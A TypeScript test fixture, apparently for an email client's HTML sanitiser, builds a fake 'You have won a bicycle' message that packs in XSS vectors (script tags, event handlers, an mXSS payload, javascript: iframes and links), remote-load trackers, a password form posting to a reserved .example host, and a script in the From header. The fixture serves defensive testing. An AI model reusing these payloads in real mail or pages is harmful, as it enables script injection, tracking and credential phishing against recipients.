// A message that tries everything mail must not do; `window.pwned` names the first script of it that ran.

/** The server it would report to. Nothing answers there: `.example` is reserved (RFC 2606). */
export const TRACKER = "tracker.elsewhere.example";
export const SUBJECT = "You have won a bicycle";

const HTML = `<!doctype html>
<html><head>
<base href="https://${TRACKER}/" target="_top">
<meta http-equiv="refresh" content="0; url=https://${TRACKER}/refresh">
<link rel="stylesheet" href="https://${TRACKER}/sheet.css">
<style>@import url(https://${TRACKER}/import.css); body { background: url(https://${TRACKER}/background.png) }
@font-face { font-family: spy; src: url(https://${TRACKER}/font.woff2) } p { font-family: spy }</style>
<script>top.pwned = parent.pwned = window.pwned = "script"</script>
</head>
<body onload="window.pwned = 'onload'">
<p id="greeting">Dear winner,</p>
<img src="x" onerror="window.pwned = 'onerror'">
<img src="https://${TRACKER}/pixel.gif" alt="a bicycle" width="40" height="40">
<img srcset="https://${TRACKER}/srcset.png 1x" alt="">
<div style="background-image: url('https://${TRACKER}/style.png'); position: fixed; inset: 0">cover</div>
<svg onload="window.pwned = 'svg'"><script>window.pwned = "svg script"</script><image href="https://${TRACKER}/svg.png"/></svg>
<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned='mxss'&gt;"></mglyph></math>
<iframe src="javascript:top.pwned='iframe'"></iframe><iframe srcdoc="<script>top.pwned='srcdoc'</script>"></iframe>
<object data="https://${TRACKER}/object"></object><embed src="https://${TRACKER}/embed">
<video src="https://${TRACKER}/video" poster="https://${TRACKER}/poster.png" autoplay></video>
<form action="https://${TRACKER}/form" method="post"><input name="password" autofocus><button>Collect</button></form>
<a id="script-link" href="javascript:top.pwned='link'">Claim your prize</a>
<a id="real-link" href="https://${TRACKER}/landing">Read the rules</a>
</body></html>`;

export const HOSTILE = `From: "Prizes <script>pwned=1</script>" <prizes@elsewhere.example>
To: winner@larkspur-bakery.example
Subject: ${SUBJECT}
Date: Fri, 20 Nov 2026 08:15:00 +0000
Message-ID: <prize@elsewhere.example>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: base64

${Buffer.from(HTML)
  .toString("base64")
  .replace(/.{76}/g, "$&\n")}`;
